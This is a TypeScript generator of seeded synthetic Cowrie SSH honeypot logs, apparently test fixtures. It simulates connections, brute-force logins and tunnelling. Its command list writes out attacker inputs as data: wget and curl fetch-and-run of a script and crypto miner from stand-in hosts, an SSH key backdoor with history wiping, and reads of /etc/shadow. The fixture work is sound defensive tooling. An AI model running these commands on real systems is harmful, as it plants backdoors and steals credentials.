/**
 * Cowrie logs made from a seed, in today's dialect and in that of 2018. Three of four sessions guess passwords or only
 * connect, one in twelve types commands, a few tunnel: what public logs of internet-facing sensors show.
 */
export function makeCowrieLog(eventCount: number, seed: number): string {
  const random = createRandom(seed);
  const lines: string[] = [];
  let clockMs = Date.UTC(2026, 0, 1);
  for (let session = 0; lines.length < eventCount; session++) {
    clockMs += Math.floor(random() * 4_000);
    addSession(lines, session, clockMs, random);
  }
  return `${lines.slice(0, eventCount).join('\n')}\n`;
}

type Random = () => number;

const SENSOR = '920497a79896';
const USERS = ['root', 'admin', 'user', 'test', 'oracle', 'ubuntu', 'pi', 'postgres', 'git', 'support'];
const CLIENTS = [
  'SSH-2.0-Go',
  'SSH-2.0-libssh2_1.8.0',
  'SSH-2.0-PUTTY',
  'SSH-2.0-OpenSSH_7.4p1',
  'SSH-2.0-paramiko_2.7.2',
];
const SCRIPTS = [
  ['uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'free -m', 'w', 'whoami', 'crontab -l'],
  ['cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh'],
  [
    'mkdir -p ~/.ssh; echo "ssh-rsa AAAAB3NzaC1yc2E rsa-key" >> ~/.ssh/authorized_keys; chmod -R go= ~/.ssh',
    'history -c',
  ],
  ['ls -la', 'cat /etc/passwd', 'cat /etc/shadow', 'ps aux', 'netstat -tulpn', 'exit'],
  ['curl -s http://198.51.100.9/xmrig.tar.gz | tar xz; ./xmrig -o pool.example:3333 --donate-level 1 &'],
];

function addSession(lines: string[], number: number, startMs: number, random: Random): void {
  const session = Math.floor(random() * 2 ** 48)
    .toString(16)
    .padStart(12, '0');
  const source = `${11 + Math.floor(random() * 180)}.${Math.floor(random() * 8)}.${Math.floor(random() * 4)}.${1 + Math.floor(random() * 250)}`;
  const old = number % 3 === 0;
  let atMs = startMs;
  const write = (eventid: string, fields: object) => {
    atMs += Math.floor(random() * 900);
    const timestamp = new Date(atMs).toISOString().replace('Z', '417Z');
    const dialect = old ? { system: `HoneyPotSSHTransport,${number},${source}`, isError: 0 } : { protocol: 'ssh' };
    lines.push(
      JSON.stringify({
        eventid: `cowrie.${eventid}`,
        ...fields,
        ...dialect,
        src_ip: source,
        session,
        sensor: SENSOR,
        timestamp,
      }),
    );
  };
  const pick = <Item>(items: readonly Item[]) => items[Math.floor(random() * items.length)];

  write('session.connect', {
    src_port: 1024 + Math.floor(random() * 60_000),
    dst_ip: '172.17.0.3',
    dst_port: 2222,
    message: `New connection: ${source} (172.17.0.3:2222) [session: ${session}]`,
  });
  const version = pick(CLIENTS);
  write('client.version', {
    version,
    message: `Remote SSH version: ${version}`,
    kexAlgs: ['diffie-hellman-group14-sha1', 'diffie-hellman-group1-sha1'],
    keyAlgs: ['ssh-rsa', 'ssh-dss'],
    encCS: ['aes128-ctr', 'aes192-ctr', 'aes256-ctr', 'aes128-cbc', '3des-cbc'],
    macCS: ['hmac-sha1', 'hmac-md5'],
    compCS: ['none'],
  });
  const kind = random();
  const tries = kind < 0.35 ? 0 : 1 + Math.floor(random() * 3);
  for (let attempt = 0; attempt < tries; attempt++) {
    const username = pick(USERS);
    const password = Math.floor(random() * 5_000).toString(36);
    write('login.failed', { username, password, message: `login attempt [${username}/${password}] failed` });
  }
  if (kind > 0.9) {
    write('login.success', { username: 'root', password: '123456', message: 'login attempt [root/123456] succeeded' });
    for (const input of pick(SCRIPTS) ?? []) write('command.input', { input, message: `CMD: ${input}` });
  } else if (kind > 0.87) {
    write('login.success', { username: 'root', password: 'root', message: 'login attempt [root/root] succeeded' });
    for (let tunnel = 0; tunnel < 6; tunnel++) {
      write('direct-tcpip.request', {
        dst_ip: '198.51.100.80',
        dst_port: 80,
        src_port: 16_870,
        message: 'direct-tcp connection request',
      });
      write('direct-tcpip.data', {
        dst_ip: '198.51.100.80',
        dst_port: 80,
        data: "'GET / HTTP/1.0\\r\\n\\r\\n'",
        message: 'discarded direct-tcp forward request',
      });
    }
  }
  write('session.closed', { duration: (atMs - startMs) / 1000, message: 'Connection lost' });
}

/** Mulberry32: small, seeded, good enough for test data. */
function createRandom(seed: number): Random {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
